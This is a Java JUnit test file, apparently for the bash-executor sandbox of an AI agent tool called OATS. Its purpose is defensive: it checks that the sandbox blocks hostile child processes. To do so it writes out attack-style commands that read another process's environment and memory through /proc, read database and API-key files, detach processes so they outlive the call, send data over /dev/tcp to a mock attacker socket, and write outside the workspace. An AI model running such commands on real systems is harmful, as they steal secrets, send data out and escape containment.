package dev.oats.tools.shell;

import static dev.oats.tools.shell.ShellTestSupport.args;
import static dev.oats.tools.shell.ShellTestSupport.context;
import static dev.oats.tools.shell.ShellTestSupport.pathOnly;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.oats.tool.ToolResult;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What the sandbox guarantees, tried with real child processes doing what a hostile command would:
 * OATS's process invisible, hidden files hidden, no process outliving the call, no network unless
 * granted, nothing written outside the workspace. These run where bubblewrap works (this machine
 * and CI, which install it); elsewhere they are skipped, and the fallback is covered below.
 */
class SandboxTest {

  @TempDir Path dir;

  @BeforeAll
  static void bubblewrapIsHere() {
    assumeTrue(
        Sandbox.detect(Map.of()).kind() == Sandbox.Kind.BUBBLEWRAP,
        "bubblewrap cannot run on this machine");
  }

  private Path workspace() {
    return dir.resolve("workspace");
  }

  private BashExecutorTool tool(Map<String, String> settings) {
    return new BashExecutorTool(AllowedHosts.clusterOnly(), workspace(), Sandbox.detect(settings));
  }

  private ToolResult run(BashExecutorTool tool, String command) throws Exception {
    return tool.execute(args("command", command, "timeout", 20), context(workspace(), pathOnly()));
  }

  @Test
  void theChildCannotReadTheEnvironmentOrMemoryOfOatsByAnyProcRoute() throws Exception {
    long oats = ProcessHandle.current().pid();
    String command =
        ("cat /proc/%d/environ; cat /proc/$PPID/environ; cat /proc/1/environ;"
                + " cat /proc/%d/cmdline; head -c 64 /proc/%d/mem; ls /proc | grep -c '^[0-9]'")
            .formatted(oats, oats, oats);

    ToolResult result = run(tool(Map.of()), command);

    String everything = result.output() + result.error();
    for (Map.Entry<String, String> variable : System.getenv().entrySet()) {
      boolean childHasItToo = pathOnly().containsKey(variable.getKey());
      if (!childHasItToo && variable.getValue().length() >= 6) {
        assertThat(everything).doesNotContain(variable.getKey() + "=" + variable.getValue());
      }
    }
    assertThat(everything).doesNotContain("surefire").doesNotContain("java");
  }

  @Test
  void theDataDirectoryAndKeyFilesAreHidden() throws Exception {
    Path data = Files.createDirectories(dir.resolve("data"));
    Files.writeString(data.resolve("oats.mv.db"), "db-secret-4f1c");
    Path keyFile = Files.writeString(dir.resolve("anthropic.key"), "sk-ant-file-9e2d");
    BashExecutorTool tool =
        tool(
            Map.of("OATS_DATA_DIR", data.toString(), "ANTHROPIC_API_KEY_FILE", keyFile.toString()));

    ToolResult result =
        run(tool, "cat " + data + "/oats.mv.db; ls -a " + data + "; cat " + keyFile + "; echo end");

    assertThat(result.output())
        .contains("end")
        .doesNotContain("db-secret-4f1c", "sk-ant-file-9e2d");
    assertThat(Files.readString(data.resolve("oats.mv.db"))).isEqualTo("db-secret-4f1c");
  }

  @Test
  void noProcessOutlivesItsCallHoweverItDetaches() throws Exception {
    ToolResult result =
        run(
            tool(Map.of()),
            "setsid nohup sleep 3051 >/dev/null 2>&1 & (sleep 3052 &); sleep 3053 & disown;"
                + " bash -c 'setsid sleep 3054 &' ; echo launched");

    assertThat(result.output()).contains("launched");
    for (String marker : List.of("sleep 3051", "sleep 3052", "sleep 3053", "sleep 3054")) {
      assertThat(ShellTestSupport.noneRemain(marker)).as(marker).isTrue();
    }
  }

  @Test
  void withoutANetworkGrantNothingLeavesTheSandbox() throws Exception {
    AtomicInteger connections = new AtomicInteger();
    try (ServerSocket attacker = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
      Thread.ofVirtual()
          .start(
              () -> {
                while (!attacker.isClosed()) {
                  try (Socket socket = attacker.accept()) {
                    connections.incrementAndGet();
                  } catch (Exception closed) {
                    return;
                  }
                }
              });
      Sandbox sandbox = Sandbox.detect(Map.of());
      Files.createDirectories(workspace());
      List<String> command =
          sandbox.wrap(
              List.of(
                  "/bin/bash",
                  "-c",
                  "echo x > /dev/tcp/127.0.0.1/" + attacker.getLocalPort() + " && echo sent"),
              workspace(),
              workspace(),
              new Sandbox.Grant(false, false, false));
      Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
      String output;
      try (InputStream in = process.getInputStream()) {
        output = new String(in.readAllBytes());
      }
      assertThat(process.waitFor(20, TimeUnit.SECONDS)).isTrue();

      assertThat(output).doesNotContain("sent");
      assertThat(connections.get()).isZero();
    }
  }

  @Test
  void aReadOnlyCallWritesNeitherTheRootNorTheWorkspaceAndAnApprovedOneWritesTheWorkspace()
      throws Exception {
    Path outside = Files.createDirectories(dir.resolve("outside"));
    Files.createDirectories(workspace());
    String output =
        runWrapped(
            "touch " + outside + "/x; touch made-here; grep CapEff" + " /proc/self/status",
            new Sandbox.Grant(false, false, false));

    assertThat(Files.exists(outside.resolve("x"))).isFalse();
    assertThat(Files.exists(workspace().resolve("made-here"))).isFalse();
    assertThat(output).contains("CapEff:\t0000000000000000");

    runWrapped("touch made-here", Sandbox.Grant.APPROVED);
    assertThat(Files.exists(workspace().resolve("made-here"))).isTrue();
  }

  private String runWrapped(String script, Sandbox.Grant grant) throws Exception {
    List<String> command =
        Sandbox.detect(Map.of())
            .wrap(List.of("/bin/bash", "-c", script), workspace(), workspace(), grant);
    Process process =
        new ProcessBuilder(command)
            .directory(workspace().toFile())
            .redirectErrorStream(true)
            .start();
    String output = new String(process.getInputStream().readAllBytes());
    assertThat(process.waitFor(20, TimeUnit.SECONDS)).isTrue();
    return output;
  }

  @Test
  void oatsMarksItselfNonDumpableSoEvenAChildOutsideTheSandboxCannotReadIt() throws Exception {
    assertThat(NonDumpable.apply()).isEmpty();
    assertThat(NonDumpable.isNonDumpable()).isTrue();
    Sandbox fallback =
        new Sandbox(Sandbox.Kind.DROPPED_CAPABILITIES, Path.of("/usr/bin/setpriv"), List.of());
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/setpriv")));
    Files.createDirectories(workspace());
    List<String> command =
        fallback.wrap(
            List.of("/bin/cat", "/proc/" + ProcessHandle.current().pid() + "/environ"),
            workspace(),
            workspace(),
            Sandbox.Grant.APPROVED);
    Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
    String output = new String(process.getInputStream().readAllBytes());
    process.waitFor(20, TimeUnit.SECONDS);

    assertThat(output).contains("Permission denied").doesNotContain("PATH=");
  }
}
